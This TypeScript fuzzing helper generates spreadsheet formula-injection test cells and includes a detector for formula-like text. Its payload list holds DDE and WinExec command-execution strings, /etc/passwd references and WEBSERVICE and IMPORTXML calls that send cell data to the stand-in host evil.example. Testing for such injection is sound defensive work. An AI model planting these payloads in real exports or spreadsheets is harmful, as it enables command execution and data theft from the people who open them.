import type { Random } from "../fuzz/random.ts";

/** Signs by which a spreadsheet knows a formula, with those that look or fold like them. */
const LEADS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  "＝",
  "＋",
  "－",
  "＠",
  "−",
  "﹢",
  "=+",
  "+=",
  "@=",
  "==",
  "%0A=",
];

/** What stands before the sign: blanks, quotes and signs without width that a program may strip. */
const BEFORE = [
  "",
  "",
  "",
  "",
  " ",
  "  ",
  "'",
  '"',
  "''",
  '",',
  "\u00a0",
  "\u200b",
  "\ufeff",
  "\u202e",
  "\u2060",
  ";",
  "|",
  "\t",
];

/** What a formula does; `n` tells one cell from another. */
const ACTS: readonly ((n: string) => string)[] = [
  (n) => `1+${n}`,
  (n) => `SUM(${n};1)`,
  (n) => `HYPERLINK("http://evil.example/${n}","Открыть")`,
  (n) => `cmd|' /C calc ${n}'!A0`,
  (n) => `DDE("soffice";"/etc/passwd";"${n}")`,
  (n) => `WEBSERVICE("http://evil.example/${n}?"&A1)`,
  (n) => `IMPORTXML("http://evil.example/${n}","//a")`,
  (n) => `IMAGE("http://evil.example/${n}.png")`,
  (n) => `'file:///etc/passwd'#$a.A${n}`,
  (n) => `RTD("evil",,"${n}")`,
  (n) => `INDIRECT("A${n}")`,
  (n) => `CALL("kernel32","WinExec","JCJ","${n}")`,
  (n) => `EXEC("calc ${n}")`,
  (n) => `СУММ(${n};2)`,
  (n) => `ГИПЕРССЫЛКА("http://evil.example/${n}";"Отчёт")`,
  (n) => `{=${n}*2}`,
  (n) => `LET(a,${n},a)`,
];

const FIRST_MARK = 1_000_000;

/** The number by which a cell is known again, wherever it stands in a text. */
export const marksIn = (text: string): readonly string[] => text.match(/1\d{6}/g) ?? [];

/** A cell that wants to be a formula, of at most so many letters. */
export function formulaCell(number: number, random: Random, most: number): string {
  const mark = String(FIRST_MARK + number);
  for (;;) {
    const text = `${random.pick(BEFORE)}${random.pick(LEADS)}${random.pick(ACTS)(mark)}`;
    const whole = random.oneIn(6) ? `${text}\n=1+${mark}` : text;
    if (whole.length <= most) return whole;
  }
}

/** Whether a spreadsheet would count such a text if it were typed in: its first sign that is seen leads a formula. */
export function looksLikeFormula(text: string): boolean {
  return /^[\s'"\u200b\u2060\ufeff\u202e]*[=+\-@＝＋－＠−﹢]\s*[^\s\d]/u.test(text);
}
